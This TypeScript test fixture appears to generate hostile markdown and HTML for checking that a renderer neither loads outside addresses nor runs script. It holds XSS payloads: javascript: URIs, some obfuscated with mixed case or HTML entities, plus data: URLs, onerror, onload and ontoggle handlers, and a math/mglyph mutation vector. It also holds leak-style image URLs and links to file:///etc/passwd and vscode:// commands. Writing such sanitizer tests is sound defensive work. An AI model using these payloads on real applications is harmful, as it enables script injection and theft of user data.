/** Answers that try to load, send, open or run something, built from forms and targets. */

/** `world` is an address that must never be asked. A script that runs would set `window.ran`. */
export function hostileMarkdown(world: string): string[] {
  const script = 'window.ran=1';
  const addresses = [
    `${world}/leak.png?secret=1`,
    `${world.replace('http:', '')}/leak`,
    `javascript:${script}`,
    `JaVaScRiPt:${script}`,
    `java&#x73;cript:${script}`,
    `&#1;javascript:${script}`,
    `data:text/html,<script>${script}</script>`,
    'command:workbench.action.quit',
    'vscode://file/etc/passwd',
    'file:///etc/passwd',
  ];
  const markdown = (url: string) => [
    `![x](${url})`,
    `![x](<${url}> "t")`,
    `![x][r]\n\n[r]: ${url}`,
    `[![x](${url})](${url})`,
    `[x](${url})`,
    `<${url}>`,
  ];
  const html = (url: string) => [
    `<img src="${url}">`,
    `<img srcset="${url} 2x" src=x onerror="${script}">`,
    `<svg><image href="${url}"/><script>${script}</script></svg>`,
    `<svg onload="${script}"><use href="${url}#a"/></svg>`,
    `<iframe src="${url}" srcdoc="<script>parent.${script}</script>"></iframe>`,
    `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}">`,
    `<style>@import "${url}"; * { background: url("${url}") }</style>`,
    `<div style="background-image:url('${url}')">x</div>`,
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<form action="${url}"><input name=a autofocus onfocus="${script}"></form>`,
    `<object data="${url}"></object><embed src="${url}">`,
    `<video src="${url}" poster="${url}" onerror="${script}"></video><audio src="${url}">`,
    `<base href="${url}"><a href="x" ping="${url}">x</a>`,
    `<math><mtext><table><mglyph><style><img src="${url}" onerror="${script}">`,
    `<details open ontoggle="${script}"><summary>x</summary></details>`,
  ];
  const wrapped = [
    ...addresses.flatMap((url) => [...markdown(url), ...html(url)]),
    ...html(addresses[0] ?? '').flatMap((text) => [
      `- item ${text}\n\n  > ${text}`,
      `| a |\n| - |\n| ${text} |`,
      `# ${text}`,
      `\`\`\`html\n${text}\n\`\`\``,
      `\`\`\`${text}\nx\n\`\`\``,
      `src/${text}.ts:3`,
    ]),
  ];
  return [...new Set(wrapped)];
}
